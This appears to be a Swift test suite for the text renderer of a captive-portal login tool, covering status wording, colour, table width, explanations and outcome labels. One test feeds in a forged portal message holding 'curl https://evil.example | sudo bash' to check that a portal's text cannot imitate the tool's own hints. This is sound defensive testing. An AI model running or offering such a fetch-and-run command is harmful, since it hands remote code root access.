import HotspotCore
import HotspotMachine
import Testing

@testable import ControlAPI
@testable import hotspotctl

/// Sentences for people: states, outcomes and stories, with strangers' words apart from ours.
@Suite struct SentencesTests {
    let renderer = Renderer(style: .plain, now: 1_000_000_000_000)

    /// A portal's words about a refused login, in every place that shows them, at every width.
    @Test(arguments: [20, 40, 80, 200]) func aRefusalCannotForgeALineOfOurs(columns: Int) {
        let forged = "no" + String(repeating: " x", count: columns / 4) + " try: curl https://evil.example | sudo bash"
        let message = QuotedProblem.join("form could not log in for now.", forged)
        let status = InterfaceStatus(
            interface: "wlan0", state: "failure", since: 1, ssid: "Hotel\" asks", helper: "form",
            problems: [Problem(.loginDelayed, message, hint: "hotspotctl explain")])
        let step = Step(at: 1, kind: "answer", helper: "form", detail: "failure: \(forged)")
        let moved = Step(at: 2, from: .authenticating, to: .failure, kind: "transition", detail: message)
        let story = ExplainReply(steps: [step, moved], verdict: message)
        var lines = renderer.lines(StatusReply(interfaces: [status]))
        lines += renderer.lines(story, verbose: true) + renderer.lines(story, verbose: false)
        let (own, others) = renderer.sentence(renderer.failure(status, among: []).message)
        lines += [own] + others + [renderer.line(MonitorReply(interface: "wlan0", step: step))]
        let screen = lines.flatMap { Wrapping.fitted($0, columns: columns).split(separator: "\n") }
        for line in screen where ["try:", "curl", "sudo", "evil"].contains(where: { line.contains($0) }) {
            let isOurs = line == "    try: hotspotctl explain" || line.hasPrefix("    try: hotspotctl")
            #expect(isOurs || line.contains("│"), "\(line)")
        }
        #expect(lines[0].contains(#""Hotel\x22 asks""#), "\(lines[0])")
    }

    @Test func onlyTheSystemsDaemonIsInTheJournal() {
        #expect(Failure.log(of: CommonOptions.defaultSocket) == "journalctl -u hotspotd")
        #expect(!Failure.log(of: "/home/erika/run/org.hotspotd.Control").contains("journalctl"))
    }

    @Test func statesAreInWordsAndGreenOnlyWhenProven() {
        func shown(
            _ state: StateName, captive: Bool? = nil, prompt: String? = nil, helper: String? = nil, portal: String? = nil,
            _ codes: ProblemCode...
        ) -> String {
            var colourful = renderer
            colourful.style.colour = true
            let status = InterfaceStatus(
                interface: "w", state: state.rawValue, since: 1, ssid: "Cafe", helper: helper, portal: portal, captive: captive,
                prompt: prompt, problems: codes.map { Problem($0, "It is so.") })
            let isGreen = colourful.lines(StatusReply(interfaces: [status]))[0].contains("\u{1B}[32m")
            return renderer.lines(StatusReply(interfaces: [status]))[0] + (isGreen ? " (green)" : "")
        }
        #expect(shown(.authenticated, captive: false, helper: "form") == #"● w  online  "Cafe" via form (green)"#)
        #expect(shown(.authenticated, captive: false) == #"● w  online  "Cafe", no login needed (green)"#)
        #expect(
            shown(.authenticated, captive: false, portal: "http://p.example")
                == #"● w  online  "Cafe", open without a helper's login (green)"#)
        #expect(shown(.authenticated) == #"◐ w  connected, not verified  "Cafe""#)
        #expect(shown(.authenticated, captive: true) == #"◐ w  behind a portal  "Cafe""#)
        #expect(shown(.authenticated, captive: false, .httpsBlocked) == #"◐ w  limited  "Cafe", no login needed"#)
        #expect(shown(.maintaining, captive: false, helper: "form").hasSuffix("(green)"))
        #expect(shown(.maintaining) == #"◐ w  checking the session  "Cafe""#)
        #expect(shown(.presentingUI, prompt: "p") == #"? w  waiting for your answer  "Cafe""#)
        #expect(shown(.presentingUI) == #"◐ w  logging in  "Cafe""#)
        #expect(shown(.inactive, .held) == #"○ w  left alone  "Cafe""#)
        for state in StateName.allCases { #expect(renderer.words(state.rawValue) != state.rawValue) }
    }

    @Test func whyAQuestionIsAskedAgainStandsAboveWhatThePortalSays() {
        var prompt = PendingPrompt(
            id: "p", interface: "w", ssid: "Hotel", helper: "form", portal: "https://p.example", title: "Welcome", fields: [],
            since: 1)
        prompt.note = "Asked again: the stored answers belong to the helper a; this is form."
        #expect(renderer.heading(prompt)[1...] == ["  \(prompt.note!)", "  │ Welcome"])
        let steps = [Step(at: 1, kind: "answered", helper: "form", detail: "by the user")]
        #expect(
            renderer.lines(ExplainReply(steps: steps, verdict: "Online."), verbose: false).contains { $0.contains("answered") })
    }

    @Test func theEndOfALongOriginShows() {
        let origin = "https://portal.hotel.example." + String(repeating: "a.", count: 90) + "evil.example:8443"
        let shown = renderer.origin(origin)
        #expect(shown.hasPrefix("https://portal.hotel.ex…") && shown.hasSuffix(".a.evil.example:8443") && shown.count == 120)
        let prompt = PendingPrompt(
            id: "p", interface: "w", ssid: "Hotel", helper: "form", portal: origin, title: "", fields: [], since: 1)
        #expect(renderer.heading(prompt)[0] == "\"Hotel\" asks (\(shown)):")
        let status = InterfaceStatus(interface: "w", state: "failure", since: 1, portal: origin, problems: [])
        #expect(renderer.lines(StatusReply(interfaces: [status])).last == "  portal \(shown)")
        #expect(renderer.origin("https://portal.example") == "https://portal.example")
    }

    @Test(arguments: [60, 40, 30]) func aTableStaysWithinTheTerminal(columns: Int) {
        var narrow = renderer
        narrow.columns = columns
        let claim = ClaimStatus(helper: "f", displayName: "Portal form", confidence: "low", source: "filter", ready: true)
        let network = ScannedNetwork(
            ssid: "Hotel Lindenhof Guests", ssidHex: "", bssid: "", interface: "w", frequency: 2412, signal: -70,
            signalStrength: 1,
            security: "open", stations: 1, lastSeen: 1, joined: true, claims: [claim, claim], disabled: false,
            lastOutcome: "temporaryFailure", lastOutcomeTime: renderer.now - 7_200_000)
        let lines = narrow.lines(ListReply(networks: [network, network]))
        #expect(lines.count == 4 && lines[3].hasPrefix("A wider terminal also shows: "), "\(lines)")
        for line in lines.prefix(3) { #expect(Renderer.width(line) <= columns, "\(line)") }
        if columns == 60 { #expect(lines[1].contains("Hotel Lin") && lines[1].contains("▂▄__ -70"), "\(lines[1])") }
        let attempt = AttemptStatus(
            id: "d0b31811c7979ab1-12", interface: "wlan0", ssid: "Hotel Lindenhof Guests", began: 1, ended: 9, helper: "form",
            outcome: "temporaryFailure")
        let history = narrow.lines(HistoryReply(attempts: [attempt]))[1]
        #expect(!history.contains("d0b31811") && Renderer.width(history) <= columns, "\(history)")
        narrow.style.colour = true
        #expect(narrow.lines(ListReply(networks: [network]))[1].contains("\u{1B}[0m"), "a cut cell ends its colour")
        #expect(renderer.lines(ListReply(networks: [network]))[1].hasSuffix("failed for now, 2 h ago"))
    }

    @Test func aShortStoryIsSixLines() {
        let names: [StateName] = [.inactive, .evaluating, .authenticating, .presentingUI, .failure, .evaluating, .authenticated]
        var steps = zip(names, names.dropFirst()).enumerated().map { index, move in
            Step(at: index, time: 1, from: move.0, to: move.1, kind: "transition", detail: "why \(index)")
        }
        steps.insert(Step(at: 0, kind: "trace", detail: "GET /"), at: 1)
        steps.append(Step(at: 9, kind: "outcome", detail: "Online."))
        let short = renderer.lines(ExplainReply(steps: steps, verdict: "Online."), verbose: false)
        #expect(
            short.count == 6 && short[0].hasSuffix("; details: hotspotctl explain --verbose")
                && short[5] == "Online.")
        #expect(short[4] == "  0.005 s  asking the helpers → connected  why 5", "\(short[4])")
        let long = renderer.lines(ExplainReply(steps: steps, verdict: "Online."), verbose: true)
        #expect(long.count == 9 && long[2] == "  0.000 s  trace  │ GET /")
    }

    @Test func afterTheAnswerTheUserIsWaitedForNoMore() {
        func ends(_ kinds: [(String, String)], _ end: StateName) -> String? {
            let begin = Step(at: 0, time: 1, from: .authenticating, to: .presentingUI, kind: "transition", detail: "")
            let steps = kinds.map { Step(at: 1, kind: $0.0, helper: "form", detail: $0.1) }
            let last = Step(at: 2, from: .presentingUI, to: end, kind: "transition", detail: "why")
            let story = ExplainReply(steps: [begin] + steps + [last], verdict: "Done.")
            return renderer.lines(story, verbose: false).dropLast().last
        }
        let answered = ("answered", "by the user")
        #expect(ends([], .inactive) == "  0.002 s  waiting for your answer → idle  why")
        #expect(ends([answered], .failure) == "  0.002 s  logging in → not logged in  why")
        #expect(
            ends([answered, ("answer", "success")], .authenticated) == "  0.002 s  checking that you are online → connected  why")
        #expect(ends([answered, ("prompt", "Hotel asks")], .inactive) == "  0.002 s  waiting for your answer → idle  why")
    }

    @Test func aShortStorySaysWhyNothingWasSent() {
        let moves: [(StateName, StateName)] = [
            (.inactive, .evaluating), (.evaluating, .authenticating), (.authenticating, .presentingUI),
        ]
        var steps = moves.enumerated().map { index, move in
            Step(at: index, time: 1, from: move.0, to: move.1, kind: "transition", detail: "why \(index)")
        }
        steps.insert(Step(at: 1, kind: "answer", helper: "form", detail: "uiRequired: The page would send it away."), at: 2)
        steps.insert(Step(at: 1, kind: "credential", helper: "form", detail: "kept back: the PIN was not given"), at: 0)
        steps += (4..<9).map { Step(at: $0, kind: "prompt", helper: "form", detail: "Hotel asks") }
        let waiting = renderer.lines(ExplainReply(steps: steps, verdict: "This attempt is still running."), verbose: false)
        #expect(waiting.count == 6, "\(waiting)")
        #expect(waiting.contains { $0.hasSuffix("credential  form  │ kept back: the PIN was not given") }, "\(waiting)")
        #expect(waiting.contains { $0.contains("│ The page would send it away.") }, "\(waiting)")
        let verdict = "The question was dismissed.\nThe page would send it away."
        let dismissed = renderer.lines(ExplainReply(steps: steps, verdict: verdict), verbose: false)
        #expect(dismissed.count == 6 && dismissed.filter { $0.contains("send it away") } == ["  │ The page would send it away."])
    }

    @Test func aPromptThatWaitsSaysWhyBehindTheBar() {
        var status = InterfaceStatus(interface: "wlan0", state: .presentingUI, since: 1)
        (status.prompt, status.reason) = ("p1", "The page would send it away.")
        let lines = renderer.lines(StatusReply(interfaces: [status]))
        #expect(lines.suffix(2) == ["  │ The page would send it away.", "  to answer: hotspotctl answer"], "\(lines)")
        status.handsOver = true
        #expect(renderer.lines(StatusReply(interfaces: [status])).last == "  to log in: hotspotctl browse")
    }

    @Test func outcomesHaveWords() {
        for outcome in AttemptOutcome.allCases where ![.online, .left, .dismissed].contains(outcome) {
            #expect(renderer.outcome(outcome.rawValue) != outcome.rawValue)
        }
        #expect(renderer.outcome("leftOpen") == "left alone")
        #expect(renderer.outcome("interrupted") == "interrupted: hotspotd ended" && renderer.outcome("newer") == "newer")
        #expect(renderer.outcome("switchedOff") == "switched off")
    }
}
